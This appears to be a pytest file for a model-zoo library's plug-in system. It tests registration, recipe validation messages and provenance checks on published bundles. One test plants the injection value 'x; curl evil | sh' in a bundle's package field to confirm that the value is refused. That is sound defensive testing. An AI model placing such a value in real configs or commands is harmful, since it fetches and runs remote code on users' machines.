"""What other packages bring, laid out as pip leaves them: parts of recipes, data sets, tasks, kinds of data."""

from __future__ import annotations

import hashlib
import json
import shutil
import sys
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, get_args

import pytest
import torch

import zoo
from zoo import ZooError, parts, plugins
from zoo.cli import main
from zoo.recipes import Augment, CrossEntropy, Deviation, Focal, MultiTask, Pairs, load_recipe, parse
from zoo.recipes.schedules import Curve, MultiStep, Plateau, Step

MODULE = """
from typing import Annotated

import torch
from pydantic import BaseModel, Field
from torch import nn

import zoo
from zoo.data import Split


@zoo.register_model(task="image-classification", init="tenths", description="Dots", source="Us 2026")
class dots_net(nn.Module):
    def __init__(self, num_classes: int = 2, width: int = 4):
        super().__init__()
        self.body, self.head = nn.Linear(48, width), nn.Linear(width, num_classes)

    def forward(self, images):
        return self.head(self.body(images.flatten(1)).relu())


@zoo.register_init()
def tenths(layer, gain):
    for parameter in layer.parameters(recurse=False):
        parameter.uniform_(-0.1, 0.1)


@zoo.register_data(kind="image", labels=["dark", "light"], maximum=255.0)
def dots():
    targets = torch.arange(32) % 2
    images = (targets.view(-1, 1, 1, 1) * 155 + torch.arange(32).view(-1, 1, 1, 1)).expand(32, 3, 4, 4)
    images = images.to(torch.uint8).contiguous()
    return Split(images[:24], targets[:24]), Split(images[24:], targets[24:])


@zoo.register_loss(task="image-classification")
def poly(outputs, targets, *, epsilon: Annotated[float, Field(ge=0)] = 1.0):
    right = outputs.softmax(1).gather(1, targets[:, None])[:, 0]
    return (-right.log() + epsilon * (1 - right)).mean()


class Slow(BaseModel):
    slowness: Annotated[float, Field(gt=0, le=1)] = 1.0


@zoo.register_optimizer(section=Slow)
class slow_sgd(torch.optim.SGD):
    def __init__(self, params, lr, slowness):
        super().__init__(params, lr=lr * slowness)


@zoo.register_schedule()
def stairs(step, total, epoch, *, down: float = 0.5):
    return down**epoch


@zoo.register_augment()
def noise(images, generator, *, size: float):
    return images + size * torch.randn(images.shape, generator=generator, device=images.device)


@zoo.register_metric(task="image-classification")
def dark_found(outputs, targets):
    return ((outputs.argmax(1) == 0) & (targets == 0)).sum().item() / max(1, int((targets == 0).sum()))
"""

GROUPS = ("models", "inits", "data", "losses", "optimizers", "schedules", "augments", "metrics")
RECIPE: dict[str, Any] = {
    "model": "dots_net",
    "init": "tenths",
    "data": {"name": "dots", "batch_size": 8, "augment": {"noise": {"size": 0.01}}},
    "loss": {"name": "poly"},
    "optimizer": {"name": "slow_sgd", "lr": 0.5, "groups": [{"match": "head.*", "weight_decay": 0.01}]},
    "schedule": {"name": "stairs", "down": 0.9},
    "train": {"epochs": 8},
    "evaluate": {"metric": "dark_found"},
}


def lay_out(site: Path, package: str, modules: dict[str, str], entries: dict[str, str], version: str = "1.0") -> None:
    """What `pip install --target` leaves of a package; `entries` are group -> module."""
    for file, text in {"__init__.py": "", **modules}.items():
        (site / package).mkdir(parents=True, exist_ok=True)
        (site / package / file).write_text(text)
    info = site / f"{package}-{version}.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {package}\nVersion: {version}\n")
    points = "".join(f"[zoo.{group}]\nmine = {module}\n" for group, module in entries.items())
    (info / "entry_points.txt").write_text(points)


@pytest.fixture
def installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., Path]]:
    """installed(module's text) -> where it lies: the package `dotted` is there for the test."""
    site = tmp_path / "site"
    before = set(sys.modules)

    def install(text: str = MODULE, groups: tuple[str, ...] = GROUPS) -> Path:
        lay_out(site, "dotted", {"all.py": text}, dict.fromkeys(groups, "dotted.all"))
        monkeypatch.syspath_prepend(site)
        return site / "dotted" / "all.py"

    with plugins.temporary():
        yield install
    for name in set(sys.modules) - before:
        if name.startswith("dotted"):
            del sys.modules[name]


def test_a_package_brings_every_part_of_a_run(installed: Callable[..., Path], tmp_path: Path) -> None:
    installed()
    run = zoo.train(RECIPE, out=tmp_path / "run", device="cpu", progress=False)
    assert run.metrics["dark_found"] == run.metrics["accuracy"] == 1.0
    resolved = load_recipe(run.folder)
    content = resolved.content()
    assert content["loss"] == {"name": "poly", "epsilon": 1.0}, "defaults are written out"
    assert content["optimizer"]["slowness"] == 1.0 and content["optimizer"]["decay_vectors"] is False
    assert content["data"]["augment"]["noise"] == {"size": 0.01}
    assert parse(content).to_yaml() == resolved.to_yaml()
    assert "epsilon" not in resolved.short() and "down: 0.9" in resolved.short()
    rates = [float(row["lr"]) for row in run.log]
    assert rates == pytest.approx([0.5 * 0.9**epoch for epoch in range(8)])
    again = zoo.train(RECIPE, out=tmp_path / "again", device="cpu", progress=False)
    assert again.metrics == run.metrics and again.log[-1]["train_loss"] == run.log[-1]["train_loss"]


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"loss.epsilom": 2.0}, r"^recipe: unknown key loss\.epsilom; did you mean 'epsilon'\?$"),
        ({"loss.epsilon": -1.0}, r"^recipe: loss\.epsilon should be greater than or equal to 0, not -1\.0\.$"),
        ({"loss.epsilon": "much"}, r"^recipe: loss\.epsilon should be a valid number, not 'much'\.$"),
        ({"loss": {"name": "ploy"}}, r"^recipe: loss\.name should be one of .*'poly'.*; did you mean 'poly'\?$"),
        ({"optimizer.slowness": 2.0}, r"^recipe: optimizer\.slowness should be less than or equal to 1, not 2\.0\.$"),
        (
            {"optimizer.name": "slow_sdg"},
            r"^recipe: optimizer\.name: unknown optimizer 'slow_sdg'; did you mean slow_sgd",
        ),
        ({"schedule.name": "stair"}, r"schedule\.name should be one of .*'stairs'.*did you mean 'stairs'"),
        ({"data.augment": {"noise": {}}}, r"^recipe: data\.augment\.noise\.size is missing; add it\.$"),
        ({"data.augment": {"noize": {}}}, r"^recipe: unknown key data\.augment\.noize; did you mean 'noise'\?$"),
        ({"data.name": "dotz"}, r"data\.name: unknown data set 'dotz'; did you mean dots"),
        ({"init": "tents"}, r"init: unknown init scheme 'tents'; did you mean tenths"),
        ({"model": "dots_ned"}, r"model: unknown model 'dots_ned'; did you mean dots_net"),
        ({"evaluate.metric": "dark_foun"}, r"evaluate\.metric should be one of .*dark_found"),
    ],
)
def test_errors_name_the_key_path_and_the_nearest_name(
    installed: Callable[..., Path], change: dict[str, Any], said: str
) -> None:
    installed()
    with pytest.raises(ZooError, match=said):
        zoo.train(RECIPE, change)


def test_a_loss_is_for_its_tasks_alone(installed: Callable[..., Path]) -> None:
    installed()
    content = load_recipe("housing_mlp.california_housing").content()
    with pytest.raises(ZooError, match=r"loss\.name should be one of mse, mae, huber for regression, not 'poly'"):
        parse({**content, "loss": {"name": "poly"}})


@pytest.mark.parametrize("sort", ["loss", "optimizer", "schedule", "augment", "metric", "init", "data", "task", "kind"])
def test_a_name_is_taken_once(sort: str) -> None:
    own = {"loss": "focal", "optimizer": "adamw", "schedule": "cosine", "augment": "flip", "metric": "accuracy"}
    own |= {"init": "orthogonal", "data": "mnist", "task": "regression", "kind": "table"}
    register = getattr(zoo, f"register_{sort}")
    more: dict[str, Any] = {"kind": "image"} if sort == "data" else {}

    def mine() -> None: ...

    with plugins.temporary():
        with pytest.raises(ZooError, match=rf"{own[sort]}' is .*choose another name"):
            register(name=own[sort], **more)(mine)
        assert register(**more)(mine) is mine
        with pytest.raises(ZooError, match=r"'mine' is already registered by .*test_plugins; choose another name"):
            register(**more)(mine)


def test_the_names_of_the_zoos_own_parts_are_those_of_its_sections() -> None:
    def named(*sections: Any) -> set[str]:
        return {name for section in sections for name in get_args(section.model_fields["name"].annotation)}

    assert named(CrossEntropy, Focal, Deviation, Pairs, MultiTask) == set(parts.LOSSES.own)
    assert named(Curve, Step, MultiStep, Plateau) == set(parts.SCHEDULES.own)
    assert set(Augment.model_fields) == set(parts.AUGMENTS.own)


def test_settings_that_no_file_can_hold_are_named(installed: Callable[..., Path]) -> None:
    installed(MODULE.replace("epsilon: Annotated[float, Field(ge=0)] = 1.0", "epsilon: torch.Tensor"))
    with pytest.raises(ZooError, match=r"the settings of poly of dotted\.all cannot stand in a recipe .*give section="):
        zoo.train(RECIPE)


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        (
            "slowness",
            "layer_decay",
            r"the setting 'layer_decay' of slow_sgd of dotted\.all has a meaning in every recipe",
        ),
        ("down", "name", r"the setting 'name' of stairs of dotted\.all has a meaning in every recipe"),
        (
            "return Split(images[:24]",
            "return images, Split(images[:24]",
            r"'dots' of dotted\.all gives no \(train, test\)",
        ),
    ],
)
def test_what_a_plug_in_does_wrong_is_said(installed: Callable[..., Path], old: str, new: str, said: str) -> None:
    installed(MODULE.replace(old, new))
    recipe = {**RECIPE, "optimizer": {"name": "slow_sgd", "lr": 0.5}, "schedule": {"name": "stairs"}}
    with pytest.raises(ZooError, match=said):
        zoo.train(recipe, progress=False)


def test_a_data_set_says_which_package_it_comes_with(
    installed: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    installed()
    assert main(["data", "list"]) == 0
    (line,) = [line for line in capsys.readouterr().out.splitlines() if line.lstrip().startswith("dots ")]
    assert "comes with dotted" in line


def test_what_a_bundle_says_of_its_packages_is_not_obeyed(published: tuple[Path, Path], tmp_path: Path) -> None:
    place = tmp_path / "dots_net.dots_v1"  # where no index vouches for its files
    shutil.copytree(published[1] / place.name, place)
    config = json.loads((place / "config.json").read_text())
    config["plug_ins"][0]["package"] = "x; curl evil | sh"
    (place / "config.json").write_text(json.dumps(config))
    with pytest.raises(ZooError, match=r"config\.json: plug_ins is .*; publish the weight again\.$"):
        zoo.create(place)


def test_a_loss_with_parameters_is_a_module(tmp_path: Path) -> None:
    with plugins.temporary():

        @zoo.register_loss()
        class scaled(torch.nn.Module):
            def __init__(self, start: float = 1.0) -> None:
                super().__init__()
                self.scale = torch.nn.Parameter(torch.tensor(start))

            def forward(self, outputs: torch.Tensor, targets: torch.Tensor) -> torch.Tensor:
                return torch.nn.functional.cross_entropy(outputs * self.scale, targets)

        changes = {
            "loss": {"name": "scaled", "start": 2.0},
            "train": {"steps": 3},
            "optimizer": {"name": "adamw", "lr": 0.1},
        }
        run = zoo.train("mlp.digits", changes, out=tmp_path / "run", device="cpu", progress=False)
        saved = next((run.folder / "checkpoints").glob("*"))
        assert run.finished and saved


# ---- where a bundle's parts come from


@pytest.fixture
def published(installed: Callable[..., Path], tmp_path: Path) -> tuple[Path, Path]:
    """(the module's file, a shelf with a weight of the plug-in's)."""
    file = installed()
    run = zoo.train(RECIPE, out=tmp_path / "run", device="cpu", progress=False)
    zoo.publish(run, tmp_path / "shelf", name="dots_net.dots_v1")
    return file, tmp_path / "shelf"


def test_a_bundle_says_what_other_packages_brought_and_notices_other_code(published: tuple[Path, Path]) -> None:
    file, shelf = published
    place = shelf / "dots_net.dots_v1"
    listed = json.loads((place / "config.json").read_text())["plug_ins"]
    sha256 = hashlib.sha256(file.read_bytes()).hexdigest()
    assert {one["what"]: one["name"] for one in listed} == {
        **{"model": "dots_net", "data set": "dots", "init scheme": "tenths", "loss": "poly", "optimizer": "slow_sgd"},
        **{"schedule": "stairs", "augmentation": "noise", "metric": "dark_found"},
    }
    assert all(
        (one["package"], one["version"], one["module"], one["sha256"]) == ("dotted", "1.0", "dotted.all", sha256)
        for one in listed
    )
    found = zoo.verify(place)
    assert found.ok and found.checks["plug_ins"] and found.checks["metrics"]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        zoo.create(place)
    assert zoo.reproduce(place, device="cpu").identical

    file.write_text(file.read_text().replace(".relu()", ".tanh()"))
    with pytest.warns(
        UserWarning, match=r"source of the model 'dots_net' here \(dotted 1\.0\) is not the one that dots_n"
    ):
        zoo.create(place)
    found = zoo.verify(place)
    assert not found.ok and found.checks == {"hashes": True, "plug_ins": False}
    assert "is not the one that dots_net.dots_v1 was trained with" in found.message


def test_without_the_plug_in_the_error_says_what_to_install(
    published: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    _, shelf = published
    place, said = (
        shelf / "dots_net.dots_v1",
        r"dots_net\.dots_v1 needs the model 'dots_net' of another package; if you trust",
    )
    monkeypatch.setattr(sys, "path", [path for path in sys.path if not path.endswith("site")])
    monkeypatch.setenv("ZOO_SOURCES", str(shelf))
    for table in plugins.TABLES.values():
        for name in [name for name in table if table.outside(name) is not None]:
            del table[name]
    calls: list[Callable[[], Any]] = [
        lambda: zoo.create(place),
        lambda: zoo.create("dots_net", pretrained=True),
        lambda: zoo.create("dots_net", weights="dots_v1"),
        lambda: zoo.create("dots_net.dots_v1"),
        lambda: zoo.predictor("dots_net.dots_v1"),
        lambda: zoo.predictor("dots_net"),
        lambda: zoo.info("dots_net.dots_v1"),
        lambda: zoo.evaluate("dots_net.dots_v1"),
        lambda: zoo.reproduce("dots_net.dots_v1"),
    ]
    for call in calls:
        with pytest.raises(ZooError, match=said + r" its publisher, run: pip install dotted==1\.0\.$"):
            call()
    found = zoo.verify("dots_net.dots_v1")
    assert not found.ok and "pip install dotted==1.0" in found.message
    assert zoo.pull("dots_net.dots_v1").is_dir(), "to carry it needs no plug-in"
